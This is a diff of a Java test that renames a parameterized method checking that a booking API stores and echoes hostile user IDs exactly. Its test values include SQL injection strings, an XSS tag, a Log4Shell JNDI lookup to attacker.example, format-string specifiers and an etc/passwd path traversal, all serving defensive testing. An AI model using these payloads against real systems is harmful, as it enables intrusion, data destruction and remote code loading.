@@ -153,7 +153,7 @@ class HostileInputTest extends SuiteTest {
     @ValueSource(strings = {"'; DROP TABLE bookings; --", "1' OR '1'='1", "\" OR \"\"=\"", "admin'--",
             "<script>alert(1)</script>", "${jndi:ldap://attacker.example/a}", "%s%n%x", "..\\..\\etc\\passwd",
             "ünï\u00e7ødé 🎟️ 票", "tab\tand\u0007bell", "line\nbreak", "\u202Eevil"})
-    void hostileStorableTextAreStoredAndEchoedExactly(String user) {
+    void hostileUserIdsAreStoredAndEchoedExactly(String user) {
         long eventId = createEvent(3);
 
         long bookingId = given().contentType(ContentType.JSON).body(reserveJson(eventId, user)).post("/api/bookings/reserve")
